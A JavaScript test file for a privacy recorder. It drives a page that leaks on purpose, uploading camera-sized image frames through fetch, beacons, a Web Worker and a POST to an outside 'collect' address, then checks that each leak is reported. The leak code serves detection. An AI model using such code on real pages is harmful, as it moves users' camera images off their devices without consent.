// The privacy recorder itself must catch leaks, or the privacy checks of the
// other tests prove nothing. Real encoders make the bytes: the committed
// test photos, and Chromium's own canvas encoders in a page that leaks on
// purpose.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { ROOT, classifyPayload, isLoopback, startServer, launch, newPage, pageRecord } from './lib.mjs';
import { privacyProblems } from './privacy.mjs';

const photo = (name) => fs.readFileSync(path.join(ROOT, 'assets', 'testdata', name));

test('classifyPayload recognises image bytes and lets small messages through', () => {
  const jpeg = photo('pigo-sample.jpg');
  const png = photo('astronaut.png');
  const cases = [
    ['JPEG photo', jpeg, /JPEG/],
    ['PNG photo', png, /PNG/],
    ['JPEG after a small prefix', Buffer.concat([Buffer.from('{"f":'), jpeg]), /JPEG/],
    ['base64 JPEG in JSON', Buffer.from(JSON.stringify({ img: jpeg.toString('base64') })), /base64/],
    ['data URL', Buffer.from('data:image/png;base64,' + png.toString('base64')), /base64|data:image/],
    ['raw grey frame', Buffer.alloc(640 * 480, 128), /frame-sized/],
    ['raw RGBA frame', Buffer.alloc(640 * 480 * 4, 7), /frame-sized/],
    ['classroom join message', Buffer.from(JSON.stringify({ type: 'join', code: 'K7M2QXPA', name: 'minji' })), null],
    ['opt-in score', Buffer.from(JSON.stringify({ type: 'score', d: 0.41 })), null],
    ['empty', Buffer.alloc(0), null],
  ];
  for (const [name, buf, want] of cases) {
    const got = classifyPayload(buf);
    if (want === null) assert.equal(got, null, name);
    else assert.match(String(got), want, name);
  }
});

test('isLoopback', () => {
  for (const u of ['http://127.0.0.1:8080/x', 'http://localhost/', 'ws://127.0.0.1:1/ws', 'http://[::1]:3/', 'data:text/plain,x', 'blob:http://127.0.0.1:1/abc']) {
    assert.ok(isLoopback(u), u);
  }
  for (const u of ['http://example.com/', 'https://127.0.0.1.nip.io/', 'http://10.0.0.1/', 'wss://relay.example/ws', 'not a url']) {
    assert.ok(!isLoopback(u), u);
  }
});

let server, browser;
before(async () => {
  server = await startServer();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

test('a page that leaks a frame is caught', { timeout: 30000 }, async () => {
  const { page, rec } = await newPage(browser, { camera: false });
  // A same-origin page of the site (a 404 still carries the site's CSP, so
  // only same-origin sends are possible, as on the real page).
  await page.goto(server.url + 'leak-test', { timeout: 10000 });
  await page.evaluate(async () => {
    const c = document.createElement('canvas');
    c.width = 640; c.height = 480;
    const g = c.getContext('2d');
    const grad = g.createLinearGradient(0, 0, 640, 480);
    grad.addColorStop(0, '#c08060'); grad.addColorStop(1, '#203040');
    g.fillStyle = grad; g.fillRect(0, 0, 640, 480);
    const blob = (type) => new Promise((r) => c.toBlob(r, type, 0.8));
    const post = (url, body) => fetch(url, { method: 'POST', body }).catch(() => {});
    await post('/upload-jpeg', await blob('image/jpeg'));
    await post('/upload-webp', await blob('image/webp'));
    navigator.sendBeacon('/beacon-png', await blob('image/png'));
    await post('/upload-raw', g.getImageData(0, 0, 640, 480).data);
    await post('/ok', JSON.stringify({ type: 'score', d: 0.41 }));
  });
  // A page without the site's CSP may reach further; the recorder must say so.
  const other = await page.context().newPage();
  await other.goto('about:blank');
  await other.evaluate(() => fetch('http://192.0.2.1:9/collect', { method: 'POST', body: 'x' }).catch(() => {}));
  // A worker's sends are not seen by the page-side recorder; a Blob body
  // there must still be reported, as unseen.
  await other.evaluate((url) => new Promise((resolve) => {
    const src = `fetch(${JSON.stringify(url)}, { method: 'POST', body: new Blob([new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3])]) })
      .catch(() => {}).finally(() => postMessage('done'));`;
    const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    w.onmessage = () => resolve();
    w.onerror = () => resolve();
    setTimeout(resolve, 5000);
  }), server.url + 'worker-upload');
  await page.waitForTimeout(500);

  const sends = (await pageRecord(page)).sends;
  const problems = privacyProblems(rec, sends, 0);
  const text = problems.join('\n');
  assert.match(text, /fetch body to \S+\/upload-jpeg carrying JPEG/);
  assert.match(text, /fetch body to \S+\/upload-webp carrying WebP/);
  assert.match(text, /beacon body to \S+\/beacon-png carrying PNG/);
  assert.match(text, /POST \S+\/upload-raw carries frame-sized/);
  assert.match(text, /fetch body to \S+\/upload-raw carrying frame-sized/);
  assert.match(text, /non-loopback origin: POST http:\/\/192\.0\.2\.1:9\/collect/);
  assert.match(text, /the page says it sent 0 bytes/);
  assert.doesNotMatch(text, /\/ok carr/);
  assert.match(text, /\/worker-upload has a body the recorder cannot see/);
  assert.equal((text.match(/cannot see/g) || []).length, 1, 'page-side sends were not matched with their requests');
  await page.context().close();
});
